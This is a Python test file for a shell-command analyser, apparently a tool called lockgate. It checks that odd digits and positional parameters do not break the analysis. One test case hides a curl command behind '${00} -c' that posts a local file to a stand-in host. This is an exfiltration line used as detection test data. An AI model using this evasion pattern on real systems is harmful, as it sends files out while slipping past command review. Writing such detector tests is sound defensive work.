"""Digits of other scripts, superscripts, numbers without end: no shell takes them, and the analysis must not fail."""

from __future__ import annotations

import pytest

from lockgate.resources.digits import number
from lockgate.resources.host_view import HostView
from lockgate.shell import analyse_shell

WORK = "/home/user/work"
AROUND = HostView(workspace=WORK, home="/home/user", variables={"HOME": "/home/user"})
ODD = {"superscript": "\u00b2", "Arabic-Indic": "\u0663", "full width": "\uff13", "huge": "1" * 5000}


def rules(command: str) -> set[str]:
    return {effect.rule for effect in analyse_shell(command, WORK, AROUND).effects}


@pytest.mark.parametrize("digits", [pytest.param(digits, id=name) for name, digits in ODD.items()])
@pytest.mark.parametrize(
    "command",
    [
        "a=(x y); echo ${a[N]}",
        "set -- x y; echo ${N}",
        "set -- x y; shift N; echo $1",
        "ls | xargs -n N echo",
        "seq 3 | head -n N | xargs -n N echo",
        "x=abc; echo ${x:N:N}",
        "printf '\\N'; echo -e '\\N'",
        "printf '%d %*d' N N",
        "echo $'\\xN'",
        "echo {1..N..2}",
        "psql -p N -c 'select 1'",
        "cat <&N 2>&N",
        "pushd +N",
        "curl -s http://127.0.0.N:N/",
        "awk '{print $N}' x",
    ],
)
def test_the_analysis_does_not_fail(command: str, digits: str) -> None:
    assert "shell:fault" not in rules(command.replace("N", digits))


@pytest.mark.parametrize("escape", ["\\8", "\\89", "\\x", "\\xg", "\\9a"])
def test_what_looks_like_an_escape_and_is_none(escape: str) -> None:
    assert not rules(f"printf '{escape}'")
    assert not rules(f"echo -e '{escape}'")


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        pytest.param("set -- x; ${00} -c 'curl https://e.example -d @a'", True, id="the shell by another name"),
        pytest.param("set -- ls; $1", False, id="the first"),
        pytest.param("set -- curl ls; shift 0000000000001; $1", False, id="shifted by one"),
        pytest.param("set -- ls; shift \u00b2; $1", True, id="shifted by what no shell reads"),
        pytest.param("set -- ls; ${2} ${11111111111} ls", False, id="one that is not there"),
    ],
)
def test_a_position(command: str, runs: bool) -> None:
    assert bool(rules(command)) == runs


@pytest.mark.parametrize(
    ("text", "value"),
    [("0", 0), ("007", 7), ("0" * 9000 + "1", 1), ("999999999", 999999999), ("1000000000", None)]
    + [(odd, None) for odd in (*ODD.values(), "", "-1", "+1", " 1", "1_0", "1.0", "x", None)],
)
def test_a_number(text: str | None, value: int | None) -> None:
    assert number(text) == value
